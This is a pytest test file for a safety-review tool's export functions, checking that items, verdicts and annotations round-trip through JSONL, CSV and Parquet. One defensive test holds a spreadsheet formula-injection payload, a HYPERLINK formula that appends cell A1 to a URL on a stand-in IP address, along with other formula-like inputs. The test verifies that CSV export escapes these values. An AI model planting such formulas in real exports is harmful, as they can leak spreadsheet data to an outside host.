"""Export: items with verdicts and annotations, read back from JSONL, CSV and Parquet."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import dataio_support as ds
import pandas as pd
import pytest
import sqlalchemy as sa
from typer.testing import CliRunner

from safereview import __version__
from safereview.cli.main import app
from safereview.dataio.export import export_annotations, export_items
from safereview.dataio.importers import import_file
from safereview.db.engine import schema_revision
from safereview.workflow.principals import SystemPrincipal

SYSTEM = SystemPrincipal("test")  # the trusted caller the CLI would be

ROWS = [
    {
        "id": "a",
        "prompt": [{"modality": "image", "path": "cat.png"}, {"modality": "text", "text": 'what, "is" this?'}],
        "response": "a cat\nwith a hat",
        "verdicts": [
            {"dimension": "joint", "label": "borderline", "judge_id": "j1", "probability": 0.5},
            {"dimension": "joint", "label": "unsafe", "judge_id": "j2"},
        ],
        "annotations": [
            {
                "annotator": "amy",
                "labels": {"joint": "safe"},
                "blind_labels": {"joint": "unsafe"},
                "verdict_action": "override",
                "time_spent_s": 4.0,
                "categories": ["C3"],
            },
            {"annotator": "bo", "labels": {"joint": "borderline", "text": "safe"}},
        ],
    },
    {"id": "b", "prompt": "plain", "verdict.text": "safe", "judge_id": "j1"},
]


def _read(path: Path, fmt: str) -> pd.DataFrame:
    if fmt == "parquet":
        return pd.read_parquet(path)
    if fmt == "csv":
        return pd.read_csv(path, keep_default_na=False, na_values=[""], dtype={"schema_revision": str})
    return pd.read_json(path, lines=True, dtype={"schema_revision": str})


@pytest.fixture
def filled(engine: sa.Engine, tmp_path: Path) -> sa.Engine:
    d = tmp_path / "in"
    ds.png(d / "cat.png")
    f = ds.write_jsonl(d / "items.jsonl", ROWS)
    assert import_file(engine, f, collection="exp", taxonomy="vlsu", media_root=tmp_path / "root", actor=SYSTEM).ok
    other = ds.write_jsonl(d / "other.jsonl", [{"id": "z", "prompt": "elsewhere"}])
    assert import_file(
        engine, other, collection="other", taxonomy="vlsu", media_root=tmp_path / "root", actor=SYSTEM
    ).ok
    return engine


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_export_items_round_trip(filled: sa.Engine, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"items.{fmt}"
    res = export_items(filled, out, fmt, collections=["exp"])
    assert res.rows == 2
    df = _read(out, fmt).set_index("external_id")
    assert list(df.index) == ["a", "b"]
    a, b = df.loc["a"], df.loc["b"]
    assert a["prompt_text"] == 'what, "is" this?' and a["response_text"] == "a cat\nwith a hat"
    assert a["prompt_media"].startswith("image:") and len(a["prompt_media"]) == len("image:") + 64
    assert a["verdict.j1.joint"] == "borderline" and a["verdict.j1.joint.prob"] == 0.5
    assert a["verdict.j2.joint"] == "unsafe" and pd.isna(a["verdict.j2.joint.prob"])
    assert pd.isna(b["verdict.j1.joint"]) and b["verdict.j1.text"] == "safe"
    assert a["judge_ids"] == "j1;j2" and b["judge_ids"] == "j1"
    assert a["import_source"].endswith("items.jsonl") and a["import_format"] == "generic-jsonl"
    assert a["safereview_version"] == __version__
    assert a["schema_revision"] == schema_revision(filled)
    assert a["exported_at"] and a["collection"] == "exp"
    created = datetime.fromisoformat(str(a["created_at"]))
    assert created.utcoffset() == timedelta(0) and abs(datetime.now(UTC) - created) < timedelta(hours=1)
    assert not list(tmp_path.glob(".items*"))  # no temporary file left behind


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_export_annotations_round_trip(filled: sa.Engine, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"ann.{fmt}"
    res = export_annotations(filled, out, fmt)
    assert res.rows == 2
    df = _read(out, fmt).set_index("annotator")
    amy, bo = df.loc["amy"], df.loc["bo"]
    assert amy["label.joint"] == "safe" and amy["blind.joint"] == "unsafe"
    assert amy["verdict_action"] == "override" and amy["time_spent_s"] == 4.0
    assert amy["categories"] == "Drug Abuse" and amy["source"] == "import"
    assert bo["label.text"] == "safe" and pd.isna(bo["blind.joint"]) and pd.isna(amy["label.text"])
    assert (amy["external_id"], amy["collection"]) == ("a", "exp")
    assert amy["import_source"].endswith("items.jsonl")


def test_cli_export_and_unknown_collection(filled: sa.Engine, db_url: str, tmp_path: Path) -> None:
    out = tmp_path / "x.parquet"
    r = CliRunner().invoke(app, ["export", "items", "--out", str(out), "--db", db_url])
    assert r.exit_code == 0, r.output
    assert sorted(pd.read_parquet(out)["external_id"]) == ["a", "b", "z"]
    r = CliRunner().invoke(app, ["export", "annotations", "-o", str(tmp_path / "a.csv"), "-c", "nope", "--db", db_url])
    assert r.exit_code == 1 and "no collection named nope" in r.output
    r = CliRunner().invoke(app, ["export", "items", "-o", str(tmp_path / "a.txt"), "--db", db_url])
    assert r.exit_code == 2


HOSTILE = '=HYPERLINK("https://203.0.113.9/?"&A1, "open")'


def test_csv_cells_never_run_as_spreadsheet_formulas(engine: sa.Engine, tmp_path: Path) -> None:
    """A model output or a rationale that starts like a formula is text in every CSV (items,
    annotations, gold); JSONL keeps it exactly."""
    from sqlmodel import Session

    from safereview.agreement.gold import create_snapshot, write

    rows = [
        {
            "id": "@evil",
            "prompt": "+SUM(1,2)",
            "response": HOSTILE,
            "annotations": [{"annotator": "amy", "labels": {"joint": "unsafe"}, "rationale": "-2+3"}],
        }
    ]
    f = ds.write_jsonl(tmp_path / "h.jsonl", rows)
    assert import_file(engine, f, collection="h", taxonomy="vlsu", media_root=tmp_path / "root", actor=SYSTEM).ok
    export_items(engine, tmp_path / "i.csv", "csv", collections=["h"])
    export_annotations(engine, tmp_path / "a.csv", "csv", collections=["h"])
    export_items(engine, tmp_path / "i.jsonl", "jsonl", collections=["h"])
    with Session(engine) as s:
        snap, table = create_snapshot(s, SYSTEM, ["h"])
        write(table, tmp_path / "g.csv", "csv", snap)
    items = pd.read_csv(tmp_path / "i.csv", dtype=str, keep_default_na=False)
    anns = pd.read_csv(tmp_path / "a.csv", dtype=str, keep_default_na=False)
    gold = pd.read_csv(tmp_path / "g.csv", dtype=str, keep_default_na=False)
    assert items.loc[0, "response_text"] == "'" + HOSTILE and items.loc[0, "prompt_text"] == "'+SUM(1,2)"
    assert items.loc[0, "external_id"] == "'@evil" and anns.loc[0, "rationale"] == "'-2+3"
    assert gold.loc[0, "external_id"] == "'@evil"
    for frame in (items, anns, gold):  # no text cell starts a formula
        assert not frame.map(lambda v: str(v)[:1] in ("=", "+", "-", "@")).to_numpy().any()
    exact = pd.read_json(tmp_path / "i.jsonl", lines=True)
    assert exact.loc[0, "response_text"] == HOSTILE  # JSONL carries the text as it is


def test_raw_csv_keeps_formulas_for_machines_and_jsonl_escapes_line_separators(
    engine: sa.Engine, tmp_path: Path
) -> None:
    rows = [{"id": "a", "prompt": "=1+1", "response": "one\u2028two\u2029three\u0085four"}]
    f = ds.write_jsonl(tmp_path / "h.jsonl", rows)
    assert import_file(engine, f, collection="h", taxonomy="vlsu", media_root=tmp_path / "root", actor=SYSTEM).ok
    export_items(engine, tmp_path / "raw.csv", "csv", collections=["h"], raw_csv=True)
    assert pd.read_csv(tmp_path / "raw.csv", dtype=str).loc[0, "prompt_text"] == "=1+1"
    export_items(engine, tmp_path / "i.jsonl", "jsonl", collections=["h"])
    text = (tmp_path / "i.jsonl").read_text(encoding="utf-8")
    assert len(text.splitlines()) == 1  # one row stays one line for every reader
    assert "\\u2028" in text and "\u2028" not in text
    assert pd.read_json(tmp_path / "i.jsonl", lines=True).loc[0, "response_text"] == rows[0]["response"]
